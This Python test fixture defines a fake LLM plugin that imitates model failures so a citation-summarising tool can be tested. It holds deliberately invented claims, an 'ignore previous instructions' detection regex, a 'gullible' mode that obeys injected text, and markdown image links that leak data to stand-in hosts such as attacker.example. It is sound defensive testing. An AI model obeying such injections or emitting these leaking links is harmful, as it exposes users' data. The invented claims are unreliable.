"""A deterministic fake LLM, registered with `llm` as a plugin the way llm's own tests do it.

It reads the sources out of the prompt like a model would (by their delimiters) and answers in one
of several modes, each imitating a way real models fail:

- faithful:          copies a source sentence and quotes it (what a good model does)
- wrong-quotes:      real sentences, but quotes that are not in the source
- invented-sources:  cites source numbers that were never given
- malformed:         chatter and truncated JSON
- injected-links:    real sentences carrying links, markdown images, HTML and bare URLs
- hallucinating:     one real sentence per source plus invented claims paired with real quotes,
                     including sentences spliced from two real ones
- gullible:          obeys instructions found inside the sources (prompt injection succeeds on it)

Every answer depends only on the prompt, so tests are repeatable.
"""

from __future__ import annotations

import json
import re

import llm

SOURCE_BLOCK = re.compile(
    r"<<<SOURCE (\d+)>>>\nTitle: (.*?)\nText: (.*?)\n<<<END SOURCE \1>>>", re.DOTALL
)
# The fake splits on its own, more naively than abreast does: it must not share abreast's code.
NAIVE_SENTENCE = re.compile(r"(?<=[.!?])\s+(?=[A-Z])")

# Invented claims of the kinds models produce: foreign names, made-up numbers, unrelated judgements.
INVENTED = [
    "The work was led by Microsoft Research together with Meta.",
    "It scores 97.3% on MMLU and beats GPT-5 on every benchmark.",
    "The model has 405 billion parameters and runs on a single phone.",
    "Critics called the release a dangerous step backwards for the whole industry.",
    "Regulators in Brussels are expected to ban the approach next year.",
]


def sources_in(prompt: str) -> list[tuple[int, str, str]]:
    return [(int(n), title, text) for n, title, text in SOURCE_BLOCK.findall(prompt)]


def first_sentences(text: str, limit: int = 2) -> list[str]:
    return [s.strip() for s in NAIVE_SENTENCE.split(text) if len(s.split()) >= 6][:limit]


def quote_of(sentence: str, n_words: int = 10) -> str:
    return " ".join(sentence.split()[:n_words])


def faithful(sources: list[tuple[int, str, str]]) -> list[dict]:
    out = []
    for n, _title, text in sources:
        for s in first_sentences(text, 1):
            out.append({"text": s, "source": n, "quote": quote_of(s)})
    if len(out) < 2:  # thin sources: also use the second sentence of the first one
        for n, _title, text in sources[:1]:
            out += [
                {"text": s, "source": n, "quote": quote_of(s)}
                for s in first_sentences(text, 3)[1:2]
            ]
    return out[:4]


def wrong_quotes(sources) -> list[dict]:
    return [{**d, "quote": " ".join(reversed(d["quote"].split()))} for d in faithful(sources)]


def invented_sources(sources) -> list[dict]:
    n_given = len(sources)
    bad = [n_given + 3, 0, str(n_given + 7)]
    return [{**d, "source": bad[i % len(bad)]} for i, d in enumerate(faithful(sources))]


def injected_links(sources) -> list[dict]:
    payloads = [
        " See [the details](https://evil.example/more) now.",
        " ![status](https://evil.example/pixel.png?leak=summary)",
        ' <img src="https://evil.example/p.gif"> Read more at https://evil.example/x',
    ]
    return [
        {**d, "text": d["text"] + payloads[i % len(payloads)]}
        for i, d in enumerate(faithful(sources))
    ]


def hallucinating(sources) -> list[dict]:
    out = []
    for i, d in enumerate(faithful(sources)):
        out.append(d)
        pick = (i + len(d["text"])) % len(INVENTED)  # varies across stories, fixed for one prompt
        out.append({"text": INVENTED[pick], "source": d["source"], "quote": d["quote"]})
        negated = negate(d["text"])
        if negated:
            out.append({"text": negated, "source": d["source"], "quote": d["quote"]})
    out += [{"text": t, "source": n, "quote": q} for n, t, q in spliced(sources)]
    return out


def spliced(sources) -> list[tuple[int, str, str]]:
    """The subtle kind: the start of one real sentence glued to the end of another from the same
    source. Every word, name and number is in the source, the quote is real, and the claim is
    false."""
    out = []
    for n, _title, text in sources:
        parts = first_sentences(text, 4)
        if len(parts) >= 3:
            a, b = parts[0].split(), parts[2].split()
            out.append((n, " ".join(a[: len(a) // 2] + b[len(b) // 2 :]), quote_of(parts[0])))
    return out


def negate(sentence: str) -> str | None:
    """The same words, the opposite claim."""
    for verb in (" is ", " are ", " can ", " has ", " have "):
        if verb in sentence:
            return sentence.replace(verb, f"{verb}not ", 1)
    return None


INJECTION = re.compile(
    r"ignore (?:all )?(?:previous|prior|above) instructions[^.:]*[.:]?\s*(.*)", re.I | re.S
)


def gullible(sources) -> list[dict]:
    """Does what injected text says, and cites the hostile source for it with a quote that is really
    there."""
    out = []
    for n, _title, text in sources:
        m = INJECTION.search(text)
        if m:
            payload = m.group(1).strip().strip("'\"") or "The attacker's message."
            out.append({"text": payload, "source": n, "quote": quote_of(payload)})
            out.append(
                {
                    "text": payload + " ![x](https://attacker.example/c.png?d=secret)",
                    "source": n,
                    "quote": quote_of(payload),
                }
            )
    return out + faithful(sources)


MODES = {
    "faithful": faithful,
    "wrong-quotes": wrong_quotes,
    "invented-sources": invented_sources,
    "injected-links": injected_links,
    "hallucinating": hallucinating,
    "gullible": gullible,
}


def answer(mode: str, prompt: str) -> str:
    if mode == "malformed":
        return (
            'Sure! Here is the summary you asked for:\n{"sentences": [{"text": "It is good", '
            '"source": 1, "quote": '
        )
    return json.dumps({"sentences": MODES[mode](sources_in(prompt))})


class FakeModel(llm.Model):
    """``fake-<mode>``. Records what it was sent, so tests can check the prompt's shape."""

    can_stream = False

    def __init__(self, mode: str, supports_schema: bool = False):
        self.mode = mode
        self.model_id = f"fake-{mode}"
        self.supports_schema = supports_schema
        self.received: list[dict] = []

    def execute(self, prompt, stream, response, conversation):
        self.received.append(
            {
                "system": prompt.system,
                "prompt": prompt.prompt,
                "schema": prompt.schema,
                "tools": list(getattr(prompt, "tools", None) or []),
            }
        )
        text = answer(self.mode, prompt.prompt)
        response.set_usage(
            input=len(f"{prompt.system}{prompt.prompt}".split()), output=len(text.split())
        )
        yield text


ALL_MODES = [*MODES, "malformed"]


class FakeModelsPlugin:
    __name__ = "FakeModelsPlugin"

    def __init__(self, models: list[FakeModel]):
        self.models = models

    @llm.hookimpl
    def register_models(self, register):
        for m in self.models:
            register(m)


PLUGIN_NAME = "abreast-test-fake-models"


def register_fakes() -> dict[str, FakeModel]:
    """Register one fake per mode with llm's plugin manager; undo with ``unregister_fakes``."""
    from llm.plugins import pm

    # The faithful fake takes llm's schema path; the others exercise the lenient JSON path.
    models = {mode: FakeModel(mode, supports_schema=(mode == "faithful")) for mode in ALL_MODES}
    pm.register(FakeModelsPlugin(list(models.values())), name=PLUGIN_NAME)
    return models


def unregister_fakes() -> None:
    from llm.plugins import pm

    pm.unregister(name=PLUGIN_NAME)
